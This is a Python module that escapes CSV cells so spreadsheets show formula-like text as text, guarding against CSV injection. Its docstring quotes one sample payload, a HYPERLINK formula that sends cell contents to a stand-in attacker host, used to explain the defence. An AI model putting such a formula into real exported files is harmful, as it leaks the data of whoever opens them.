"""CSV that spreadsheets open without running anything in it (OWASP, "CSV Injection").

A spreadsheet program reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return, which some of them skip before looking) as a formula: a profile named
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would run in an official's spreadsheet
and could send other cells away. Every CSV the service writes goes through here:

* text cells that start with one of those characters get a single quote in front, which
  spreadsheets show as text (the original stays exact in JSONL and Parquet);
* every text cell is quoted, so a program that splits on another separator (``;`` in many
  locales) cannot cut a cell into a piece that starts a formula. Numbers stay bare.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it, never evaluated: text starting like a formula is
    prefixed with ``'``; anything else (numbers, None, other text) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` with every cell made safe (see the module docstring)."""

    def __init__(self, fh: TextIO) -> None:
        # QUOTE_NONNUMERIC quotes every non-number, None included (written as "").
        self._w = csv.writer(fh, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._w.writerows([safe_cell(v) for v in row] for row in rows)
